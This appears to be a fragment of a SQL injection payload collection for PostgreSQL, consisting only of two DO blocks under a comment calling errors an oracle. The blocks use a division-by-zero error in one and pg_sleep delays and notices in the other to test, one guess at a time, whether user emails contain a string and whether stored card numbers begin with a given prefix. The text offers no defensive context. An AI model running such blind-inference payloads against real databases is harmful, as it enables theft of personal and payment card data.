-- DO: errors as an oracle
DO $$ BEGIN PERFORM 1 / (SELECT count(*) FROM public.users WHERE email LIKE '%qxa%'); EXCEPTION WHEN division_by_zero THEN RAISE NOTICE 'b'; END $$;

DO $$ BEGIN IF EXISTS (SELECT FROM public.users WHERE card LIKE '40071%') THEN PERFORM pg_sleep(0.1); RAISE NOTICE 'a'; END IF; END $$;
